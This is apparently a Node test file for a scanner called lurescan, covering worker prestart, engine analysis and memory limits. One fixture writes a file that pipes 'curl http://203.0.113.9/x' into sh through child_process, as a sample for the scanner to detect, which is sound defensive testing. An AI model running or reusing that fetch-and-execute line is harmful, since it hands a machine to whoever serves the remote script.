import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { prestartWorker, releasePrestarted, takePrestarted, wantsWorker } from './prestart.js';
import { HEAVY_HEAP_MB, initialOldSpaceMb } from './memory-plan.js';
import { Engine } from './pool.js';

describe('prestarted worker (bin/lurescan.js starts it before loading the CLI)', { timeout: 60_000 }, () => {
  it('only a scan that will use worker threads starts one', () => {
    assert.equal(wantsWorker(['scan', '.']), true);
    assert.equal(wantsWorker(['scan', '.', '--threads', '2', '--format', 'json']), true);
    assert.equal(wantsWorker(['scan', '.', '--threads', '0']), false);
    assert.equal(wantsWorker(['scan', '.', '--threads=0']), false);
    assert.equal(wantsWorker(['scan', '--help']), false);
    assert.equal(wantsWorker(['scan', '.', '--detonate']), false);
    assert.equal(wantsWorker(['scan', '--', '--threads']), true);
    for (const other of [[], ['--version'], ['report', 'r.json'], ['detonate', '.'], ['message', 'm.txt'], ['check', '-m', 'x']]) assert.equal(wantsWorker(other), false, other.join(' '));
  });

  it('the next engine takes it and analyses with it; a second engine starts its own', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'lurescan-prestart-'));
    try {
      writeFileSync(join(dir, 'a.js'), "require('child_process').exec('curl http://203.0.113.9/x | sh');\n");
      prestartWorker();
      prestartWorker(); // once
      const engine = Engine.start({ threads: 2 });
      assert.equal(takePrestarted(HEAVY_HEAP_MB), undefined, 'taken by the engine');
      const out = await engine.run([{ rel: 'a.js', abs: join(dir, 'a.js'), size: 60 }], { maxFileBytes: 1 << 20, ruleSelection: {}, fileTimeoutMs: 30_000 });
      await engine.close();
      assert.deepEqual(out.errors, []);
      assert.equal(out.results.length, 1);
      assert.ok(out.results[0]!.findings.length > 0);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('one nobody takes is ended by releasePrestarted; another heap cap does not take it', async () => {
    prestartWorker();
    assert.equal(takePrestarted(64), undefined);
    await releasePrestarted();
    assert.equal(takePrestarted(HEAVY_HEAP_MB), undefined);
  });
});

describe('memory plan: the workers\' first GC limit', () => {
  it('is 256 MB each with 1-2 workers and shrinks with more, all together at most 600 MB', () => {
    assert.equal(initialOldSpaceMb(1), 256);
    assert.equal(initialOldSpaceMb(2), 256);
    assert.equal(initialOldSpaceMb(4), 150);
    for (let t = 1; t <= 16; t++) assert.ok(t * initialOldSpaceMb(t) <= 600 && initialOldSpaceMb(t) <= 256, `${t} threads`);
    assert.equal(initialOldSpaceMb(Number.NaN), 256);
  });
});
